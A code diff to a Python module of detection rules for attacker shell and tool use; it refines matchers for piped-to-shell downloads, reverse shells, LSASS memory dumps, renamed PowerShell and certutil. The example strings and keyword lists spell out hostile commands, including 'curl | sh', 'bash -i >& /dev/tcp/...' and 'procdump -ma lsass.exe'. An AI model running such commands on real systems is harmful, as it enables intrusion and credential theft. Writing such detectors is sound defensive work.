@@ -1,10 +1,27 @@
 """What shells and programs brought along are told that attackers need, one row each; the examples run as tests."""
 
 from longtail.detections.core import NEVER, RARE, SOME, UNUSUAL, USUAL, Core, core
-from longtail.detections.cores_windows import ADMIN_SHARES
-from longtail.detections.predicates import contains, flags
+from longtail.detections.cores_windows import ADMIN_SHARES, EVALUATES
+from longtail.detections.predicates import called, contains, ends, flags
 
 _ROOTS = ("c:\\windows", "%windir%", "%systemroot%", "\\windows")
+_SHELL_NAMES = tuple(f"|{blank}{place}sh" for blank in ("", " ") for place in ("", "/bin/"))
+_INTO_SHELL = (
+    contains(
+        "| bash",
+        "|bash",
+        "| /bin/bash",
+        "|/bin/bash",
+        "|{bash",
+        *(f"{name}{end}" for name in _SHELL_NAMES for end in " ;&)\"'"),
+    ),
+    ends(*_SHELL_NAMES, field="CommandLine"),
+)
+_DUMPS = (
+    contains(".dmp", ".mdmp", "minidump", "memdmp", "memorydump", "dump_file", "comsvcs"),
+    flags(" -ma ", " -mp ", " -mm "),
+    ends(" -ma", " /ma", field="CommandLine"),
+)
 _OPTIONS = ("", "/y ", "/b ", '"')
 
 SHELLS: tuple[Core, ...] = (
@@ -24,13 +41,14 @@ SHELLS: tuple[Core, ...] = (
          (contains("copy "), contains(*ADMIN_SHARES)), UNUSUAL, "cmd /c copy a \\\\b\\c$\\d", "cmd /c copy a \\\\b\\c"),
     core(("copied", "cmd", "copies a file"), contains("copy "), USUAL, "cmd /c copy a b", "cmd /c dir"),
     core(("passwords_listed_by_name!", "cmd", "looks for files by names like passwords"),
-         (contains("dir "), contains("pass", ".kdbx", ".pst")), NEVER, "cmd /c dir /s /b C:\\*pass*.txt",
-         "cmd /c dir C:\\"),
+         (contains(*called("dir", after=" /")), contains("pass", ".kdbx", ".pst")), NEVER,
+         "cmd /c dir /s /b C:\\*pass*.txt", "cmd /c mkdir C:\\passports"),
     core(("backups_removed", "cmd", "removes backups"),
-         (contains("del "), contains(".bak")), USUAL, "cmd /c del /s /f /q D:\\a\\*.bak", "cmd /c dir *.bak"),
+         (contains(*called("del", after=" /")), contains(".bak")), USUAL,
+         "cmd /c del /s /f /q D:\\a\\*.bak", "model.exe *.bak"),
     core(("piped_to_shell!", "sh bash dash", "runs what it fetches at once"),
-         (contains("curl", "wget", "base64", "fetch "), contains("| sh", "|sh", "| bash", "|bash", "|{bash",
-         "| /bin/sh")), NEVER, "sh -c curl -s http://a/b | sh", "sh -c curl -s http://a/b | tar xz"),
+         (contains("curl", "wget", "base64", "fetch "), _INTO_SHELL), NEVER,
+         "sh -c curl -s http://a/b | sh", "sh -c curl -s http://a/b | sha256sum"),
     core(("connection_shell!", "sh bash dash", "connects a shell to another machine"),
          contains("/dev/tcp/", "/dev/udp/", "inet_aton(", "pty.spawn", "socket.socket("), NEVER,
          "sh -c bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "sh -c ls"),
@@ -62,7 +80,7 @@ DROPPED: tuple[Core, ...] = (
          NEVER,
          'a.exe -cmd "cmd /c whoami"', 'forfiles /p a -c "cmd /c del @path"'),
     core(("memory_taken!", "*", "dumps the memory of the process that keeps the credentials"),
-         contains("lsass"), 0.002, "procdump64.exe -ma lsass.exe a.dmp", "procdump64.exe a"),
+         (contains("lsass"), _DUMPS), 0.002, "procdump64.exe -ma lsass.exe a", 'a.exe /FI "IMAGENAME eq lsass.exe"'),
     core(("mined!", "*", "mines coins"),
          contains("stratum+tcp", "stratum+ssl", "--donate-level", "--coin="), 0.0005, "a.exe -o stratum+tcp://b -u c",
          "a.exe -o b"),
@@ -75,8 +93,9 @@ DROPPED: tuple[Core, ...] = (
     core(("renamed_certutil!", "*", "is certutil under another name"),
          flags(" -urlcache ", " -verifyctl "), 0.002, "a.exe -urlcache -f http://b c", "a.exe b"),
     core(("renamed_powershell!", "*", "is PowerShell under another name"),
-         (flags(" -nop ", " -noprofile ", " -enc ", " -w hidden", " -ep bypass"), contains("iex", "downloadstring",
-         "invoke-", "irm ", "iwr ")), 0.002, "a.exe -nop -c iex(irm http://b)", "a.exe -nop"),
+         (flags(" -nop ", " -noprofile ", " -enc ", " -w hidden", " -ep bypass"), (EVALUATES,
+         contains("downloadstring", "invoke-", *called("irm", "iwr")))), 0.002, "a.exe -nop -c iex(irm http://b)",
+         "a.exe -noprofile -open iexplore.exe https://b"),
     core(("remote_run!", "*", "runs something on another machine"),
          (contains(" \\\\"), flags(" -accepteula", " -s ", " -d "), contains(" cmd ", " cmd.exe", '"cmd', "\\cmd.exe",
          " powershell")), 0.003,
